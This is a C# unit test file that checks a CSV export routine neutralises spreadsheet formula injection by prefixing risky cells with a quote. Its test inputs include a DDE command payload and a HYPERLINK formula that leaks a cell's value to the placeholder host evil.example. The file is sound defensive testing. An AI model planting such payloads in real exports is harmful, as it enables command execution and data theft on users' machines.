using AuditCli;

namespace Functions.Tests.Audit;

/// <summary>CSV cells a spreadsheet would run as formulas are neutralised with a leading <c>'</c> (OWASP); other cells are untouched.</summary>
public sealed class CsvExportTests
{
    [Theory]
    [InlineData("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0")]
    [InlineData("+1 answer", "'+1 answer")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(1+1)", "'@SUM(1+1)")]
    [InlineData("\t=1", "'\t=1")]
    [InlineData("\r=1", "\"'\r=1\"")]
    [InlineData("=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Open\")", "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B2,\"\"Open\"\")\"")]
    [InlineData("plain, text", "\"plain, text\"")]
    [InlineData("a = b", "a = b")]
    [InlineData("", "")]
    public void TextCells_BeginningWithAFormulaCharacter_GetALeadingQuote(string text, string expected) => Assert.Equal(expected, CsvExport.Field(text));

    [Fact]
    public void Numbers_AreWrittenAsNumbers() => Assert.Equal("-5", CsvExport.Field(-5));
}
